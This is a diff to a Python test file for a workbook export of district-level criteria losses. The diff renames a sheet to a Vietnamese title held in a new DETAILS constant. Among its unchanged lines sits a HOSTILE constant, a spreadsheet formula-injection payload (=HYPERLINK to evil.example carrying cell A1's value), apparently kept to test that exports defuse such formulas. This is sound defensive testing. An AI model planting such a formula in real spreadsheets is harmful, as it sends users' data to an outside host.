@@ -28,6 +28,7 @@ HALF = Decimal("0.50")
 # The page and its workbook, the same for 2 units as for 11: the session, the cycle, the
 # engine's inputs one table at a time, the units' names and groups once.
 QUERIES = 18
+DETAILS = "Đơn vị theo tiêu chí"  # the sheet of every unit's loss
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
 
@@ -202,14 +203,14 @@ def test_the_workbook_holds_the_pages_figures(cast: Cast, leaf_set: list[Unit]) 
     )
     book = load_workbook(io.BytesIO(response.content))
     (districts,) = cycle_criteria(Cycle.objects.get(year=2024))
-    assert book.sheetnames == ["UBND cấp huyện", "Units by criterion"]
+    assert book.sheetnames == ["UBND cấp huyện", DETAILS]
     rows = list(book["UBND cấp huyện"].iter_rows(values_only=True))
     assert len(rows) == 1 + len(districts.criteria)
     (row,) = [r for r in rows[1:] if r[1] == LEAF]
     assert row[4:] == (10, 3, 0.3, 1.5)
     assert [r[1] for r in rows[1:]] == [c.code for c in districts.criteria]
     assert sum(Decimal(str(r[7])) for r in rows[1:]) == districts.lost
-    details = list(book["Units by criterion"].iter_rows(values_only=True))
+    details = list(book[DETAILS].iter_rows(values_only=True))
     assert len(details) == 1 + sum(c.losing for c in districts.criteria)
     mine = {(r[3], r[4]) for r in details[1:] if r[1] == LEAF}
     assert mine == {(u.name, 0.5) for u in leaf_set[:3]}
